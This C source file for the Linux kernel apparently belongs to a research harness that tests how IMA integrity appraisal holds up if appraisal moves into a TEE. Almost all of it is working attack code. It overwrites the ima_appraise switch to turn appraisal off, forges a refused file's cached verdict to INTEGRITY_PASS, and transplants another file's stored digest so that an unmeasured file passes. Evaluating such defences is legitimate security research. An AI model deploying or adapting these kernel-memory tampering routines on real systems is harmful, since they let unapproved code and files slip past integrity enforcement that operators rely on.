// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks past the signature: no key is touched, but the switch that turns
 * appraisal on, or the verdict that was kept for a file. Both are data of the
 * kernel until the whole appraisal has moved to the TEE. And one on what stands
 * beside the verdict, the digest that was kept.
 */
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/slab.h>

#include "attack.h"
#undef pr_fmt
#include "ima.h"

static int *appraise;
static int saved_appraise;

int attack_appraise(const struct target *t)
{
	int off = 0;

	appraise = find_symbol("ima_appraise");
	if (!appraise)
		return -ENOENT;
	saved_appraise = *appraise;
	return poke(appraise, &off, sizeof(off));
}

void undo_appraise(void)
{
	if (appraise)
		poke(appraise, &saved_appraise, sizeof(saved_appraise));
}

static struct ima_iint_cache *find_verdict(struct inode *inode)
{
	const struct lsm_blob_sizes *sizes = find_symbol("ima_blob_sizes");

	if (!sizes || !inode->i_security)
		return NULL;
	return *(struct ima_iint_cache **)(inode->i_security +
					   sizes->lbs_inode);
}

/* What IMA keeps of a file; with a reference to @path, which that is good for. */
static struct ima_iint_cache *get_verdict(const char *name, struct path *path)
{
	struct ima_iint_cache *iint;
	int rc = name ? kern_path(name, LOOKUP_FOLLOW, path) : -EINVAL;

	if (rc)
		return ERR_PTR(rc);
	iint = find_verdict(d_backing_inode(path->dentry));
	if (iint)
		return iint;
	path_put(path);
	return ERR_PTR(-ENOENT);
}

/* The file must have been refused once, so that there is a verdict. */
int attack_verdict(const struct target *t)
{
	struct ima_iint_cache *iint;
	struct path path;

	iint = get_verdict(t->file, &path);
	if (IS_ERR(iint))
		return PTR_ERR(iint);
	iint->ima_file_status = INTEGRITY_PASS;
	iint->ima_bprm_status = INTEGRITY_PASS;
	iint->flags |= IMA_APPRAISED | IMA_FILE_APPRAISED | IMA_BPRM_APPRAISED;
	path_put(&path);
	return 0;
}

/* With all that lies behind the digest, and with the version that it is of. */
static int give_digest(struct ima_iint_cache *to, const struct ima_iint_cache *from)
{
	void *copy;

	if (!from->ima_hash || !(from->flags & IMA_COLLECTED))
		return -ENOENT;
	copy = kmemdup(from->ima_hash, ksize(from->ima_hash), GFP_KERNEL);
	if (!copy)
		return -ENOMEM;
	kfree(to->ima_hash);
	to->ima_hash = copy;
	to->real_inode.version = from->real_inode.version;
	to->flags |= IMA_COLLECTED;
	return 0;
}

/*
 * IMA must know both files, and have yet to measure the one whose digest this is to be.
 * There is nothing to undo: when that file changes, it is hashed.
 */
int attack_ticket(const struct target *t)
{
	struct ima_iint_cache *to, *from;
	struct path to_path, from_path;
	int rc;

	to = get_verdict(t->file, &to_path);
	if (IS_ERR(to))
		return PTR_ERR(to);
	from = get_verdict(t->from, &from_path);
	rc = PTR_ERR_OR_ZERO(from);
	if (!rc) {
		rc = give_digest(to, from);
		path_put(&from_path);
	}
	path_put(&to_path);
	return rc;
}
